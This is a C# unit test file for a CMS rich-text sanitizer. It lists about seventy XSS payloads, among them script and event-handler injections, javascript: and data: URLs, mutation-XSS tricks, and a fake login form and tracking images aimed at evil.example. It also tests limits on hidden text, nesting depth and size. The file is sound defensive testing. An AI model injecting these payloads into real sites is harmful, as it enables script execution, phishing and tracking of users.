using Shijuan.Cms.Core.Text;
using Xunit;

namespace Shijuan.Cms.UnitTests.Text;

public class RichTextAttackTests
{
    private readonly RichTextSanitizer _sanitizer = new();

    public static TheoryData<string> Payloads() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror='alert(1)' alt=\"a\">",
        "<img/src/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>点我</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
        "<a href=\"javascript:alert(1)\">点我</a>",
        "<a href=\" \u0001javascript:alert(1)\">点我</a>",
        "<a href=\"java&#x09;script:alert(1)\">点我</a>",
        "<a href=\"java\nscript:alert(1)\">点我</a>",
        "<a href=\"&#106;&#97;vascript&colon;alert(1)\">点我</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">点我</a>",
        "<a href=\"vbscript:msgbox(1)\">点我</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
        "<a href=\"//evil.example/\">点我</a>",
        "<a href=\"/\\evil.example/\">点我</a>",
        "<a href=\"https://www.gov.cn@evil.example/\">点我</a>",
        "<a href=\"\u200Bjavascript:alert(1)\">点我</a>",
        "<a href=\"cms-item:1;javascript:alert(1)\">点我</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=u><input type=password><button>登录</button></form>",
        "<form><button formaction=javascript:alert(1)>提交</button></form>",
        "<isindex action=javascript:alert(1) type=image>",
        "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">系统升级，请重新登录</div>",
        "<p style=\"background:url(https://evil.example/t.gif)\">文字</p>",
        "<div style=\"width:expression(alert(1))\">文字</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\"><a href=\"a\">点我</a>",
        "<video><source onerror=alert(1)></video>",
        "<video src=https://evil.example/a.mp4 autoplay></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>文字</details>",
        "<marquee onstart=alert(1)>文字</marquee>",
        "<body onload=alert(1)>文字",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<table background=\"javascript:alert(1)\"><tr><td>文字</td></tr></table>",
        "<table><td background=https://evil.example/t.gif>文字</td></table>",
        "<img src=\"https://evil.example/track.gif\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"https://evil.example/a.png 1x\" src=\"cms-file:x\">",
        "<img src=\"cms-file:../../etc/passwd\">",
        "<p id=\"cookie\" name=\"x\" class=\"modal-backdrop\">文字</p>",
        "<div hidden>隐藏</div><p onclick=alert(1)>文字</p>",
        "<p x='<!--' onclick=alert(1)>文字</p>",
        "<p \u0000onclick=alert(1)>文\u0000字</p>",
        "</p/onclick=alert(1)><p/onclick=alert(1)>文字",
        "<plaintext><script>alert(1)</script>",
        "<custom-element onclick=alert(1)>文字</custom-element>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void An_attack_leaves_nothing_dangerous(string payload)
    {
        Assert.NotEmpty(DangerousMarkup.In(payload));

        Assert.Empty(DangerousMarkup.In(_sanitizer.Sanitize(payload).Html));
        Assert.Empty(DangerousMarkup.In(_sanitizer.Sanitize("<p>前" + payload + "后</p>").Html));
        Assert.Empty(DangerousMarkup.In(_sanitizer.Sanitize("<table><tr><td>" + payload).Html));
    }

    [Theory]
    [InlineData("<a href='https://a.example/\" onmouseover=\"alert(1)'>点我</a>")]
    [InlineData("<a title='\" onfocus=alert(1) autofocus x=\"' href=/a>点我</a>")]
    [InlineData("<img alt='\"><script>alert(1)</script>' src=cms-file:0000000000000000000000000000000000000000000000000000000000000000>")]
    public void A_quotation_mark_does_not_end_an_attribute_early(string payload)
    {
        var html = _sanitizer.Sanitize(payload).Html;

        Assert.Empty(DangerousMarkup.In(html));
        Assert.Contains("alert(1)", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<form action=https://evil.example><p>请登录</p><input type=password></form>", "表单")]
    [InlineData("<div style='position:fixed;top:0'>遮挡</div>", "遮挡页面")]
    [InlineData("<img src=https://evil.example/1.gif>", "外部图片")]
    [InlineData("<img src='data:image/png;base64,AAAA'>", "直接嵌在文中的图片")]
    [InlineData("<script>1</script>", "脚本")]
    [InlineData("<p onclick=a()>文</p>", "事件脚本")]
    [InlineData("<a href=javascript:a()>文</a>", "不安全")]
    [InlineData("<p>公开<span style='display:none'>秘密</span></p>", "隐藏文字")]
    public void The_editor_is_told_in_Chinese_what_was_removed(string html, string expected) =>
        Assert.Contains(_sanitizer.Sanitize(html).Removed, removed => removed.Contains(expected, StringComparison.Ordinal));

    [Theory]
    [InlineData("<p>公开<span style=\"display: none\">秘密</span></p>")]
    [InlineData("<p>公开<span style='mso-hide:all'>秘<b>密</b></span></p>")]
    [InlineData("<p>公开<del cite='x'>秘密</del></p>")]
    [InlineData("<p>公开</p><div hidden><div>秘密</div></div>")]
    [InlineData("<p>公开<!-- 秘密 --></p>")]
    [InlineData("<p>公开<span style='font-size:0'>秘密</span></p>")]
    public void Hidden_and_deleted_text_is_not_published(string html) =>
        Assert.Equal("<p>公开</p>", _sanitizer.Sanitize(html).Html);

    [Theory]
    [InlineData("div")]
    [InlineData("span")]
    [InlineData("w:p")]
    [InlineData("b")]
    [InlineData("blockquote")]
    [InlineData("ul><li")]
    [InlineData("table><tr><td")]
    public void Nesting_of_a_hundred_thousand_is_refused(string tag)
    {
        var html = string.Concat(Enumerable.Repeat("<" + tag + ">", 100_000));

        Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(html));
        Assert.Throws<RichTextRefusedException>(() => RichTextReader.PlainText(html));
    }

    [Fact]
    public void The_depth_limit_is_256_and_not_less()
    {
        static string Nested(int depth) => string.Concat(Enumerable.Repeat("<blockquote>", depth)) + "文字";

        Assert.Contains("文字", _sanitizer.Sanitize(Nested(256)).Html, StringComparison.Ordinal);
        var refusal = Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(Nested(257)));
        Assert.Contains("256", refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Many_paragraphs_without_end_tags_are_not_nesting() =>
        Assert.Equal(3000, _sanitizer.Sanitize(string.Concat(Enumerable.Repeat("<p>一段", 3000))).PlainText.Split('\n').Length);

    [Fact]
    public void Formatting_that_html5_would_multiply_into_millions_of_elements_stays_small()
    {
        var bomb = "<p>" + string.Concat(Enumerable.Range(0, 200).Select(i => $"<b id={i}>")) + string.Concat(Enumerable.Repeat("<p>x", 10_000));

        Assert.True(_sanitizer.Sanitize(bomb).Html.Length < bomb.Length * 3);
    }

    [Theory]
    [InlineData("<b><i><u><s><sub><sup>", "<p>x", 100_000)]
    [InlineData("<table>", "x<tr>", 150_000)]
    [InlineData("", "<br>", 250_000)]
    [InlineData("", "<p>x", 250_000)]
    public void A_text_of_too_many_parts_is_refused(string start, string part, int times)
    {
        var html = start + string.Concat(Enumerable.Repeat(part, times));

        var refusal = Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(html));
        Assert.Contains("10 万", refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_long_address_is_not_multiplied_beyond_the_limit()
    {
        var html = "<a href=/" + new string('a', 2000) + ">" + string.Concat(Enumerable.Repeat("<div>x</div>", 10_000));

        Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(html));
    }

    [Fact]
    public void Two_megabytes_are_the_limit_counted_in_utf8()
    {
        var most = "<p>" + new string('a', RichTextSanitizer.MaxBytes - 7) + "</p>";

        Assert.Equal(most, _sanitizer.Sanitize(most).Html);
        Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(most + "a"));
        var refusal = Assert.Throws<RichTextRefusedException>(() => _sanitizer.Sanitize(new string('政', 700_000)));
        Assert.Contains("2 MB", refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_second_wall_notices_what_the_builder_must_never_write()
    {
        Assert.True(SecondWall.ReadsTheSame("<p>文字</p>"));
        Assert.False(SecondWall.ReadsTheSame("<p onclick=\"a()\">文字</p>"));
        Assert.False(SecondWall.ReadsTheSame("<p><a href=\"javascript:a()\">文字</a></p>"));
        Assert.False(SecondWall.ReadsTheSame("<p><script>a()</script></p>"));
        Assert.False(SecondWall.ReadsTheSame("<p><p>x</p></p>"));
        Assert.False(SecondWall.ReadsTheSame("<p style=\"position:fixed\">文字</p>"));
        Assert.False(SecondWall.ReadsTheSame("<p class=\"modal\">文字</p>"));
    }
}
